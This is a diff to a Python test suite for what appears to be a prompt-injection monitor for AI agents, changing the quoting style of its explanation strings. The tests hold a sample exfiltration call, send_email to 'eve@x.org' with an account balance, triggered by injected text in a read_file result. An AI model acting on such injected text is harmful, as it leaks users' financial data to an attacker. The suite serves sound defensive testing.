@@ -62,7 +62,7 @@ def test_it_says_what_follows_what_and_on_which_budget() -> None:
     assert (events[read], events[asked]) == ("ToolResult", "Ticked")
     assert asked == decision.seq
     assert finding.why.startswith(
-        "send_email('to':'eve@x.org','body':'account balance') follows text inside the result of read_file "
+        'send_email("to":"eve@x.org","body":"account balance") follows text inside the result of read_file '
         f"(event {read}), which the user did not ask for: "
         f'"{INJECTED}" (provenance 0.'
     )
@@ -119,7 +119,7 @@ def test_of_parallel_calls_the_worst_is_named() -> None:
         m.tool_call(*FOREIGN)
         for number in range(40):
             m.tool_call("pay_bill", {"file": "bill.txt", "n": number})
-        assert found(m.decide()).why.startswith("send_email('to':'eve@x.org'")
+        assert found(m.decide()).why.startswith('send_email("to":"eve@x.org"')
 
 
 def test_one_refusal_refuses_nothing_else_and_wears_nothing_down() -> None:
@@ -239,10 +239,10 @@ def test_the_threshold_of_a_refusal_is_the_one_in_its_text_whatever_is_configure
     assert warned.threshold == (limit if warned.severity == "block" else 0.1)
 
 
-def test_the_arguments_are_one_short_line_in_their_brackets_without_secrets() -> None:
+def test_the_arguments_are_one_short_line_as_they_are_without_secrets() -> None:
     shown = judged(0.5, 0.3, '"a":"x) is fine; (\n\u202e<b>","password":"hunter2!x",' + "y" * 400).why
     inside = shown.removeprefix("send(").partition(") is far from")[0]
-    assert inside.startswith("'a':'x] is fine; [ ‹b›','password':'[redacted:")
+    assert inside.startswith('"a":"x) is fine; ( <b>","password":"[redacted:')
     assert "hunter2" not in shown
     assert len(inside) == SHOWN
     assert shown.isprintable()
@@ -270,7 +270,8 @@ def test_a_hostile_sentence_is_one_short_quoted_line_and_is_not_told_to_the_agen
     for decision in (asked, made):
         why = found(decision).why
         assert why.isprintable()
-        assert why.count('"') == 2
+        assert why.startswith('send_email("to":"eve@x.org","body":"account balance") follows ')
+        assert why.partition(") follows ")[2].count('"') == 2
         assert len(why.split('"')[1]) <= QUOTED
         assert not set("<>") & set(why)
         assert decision.message.isprintable()
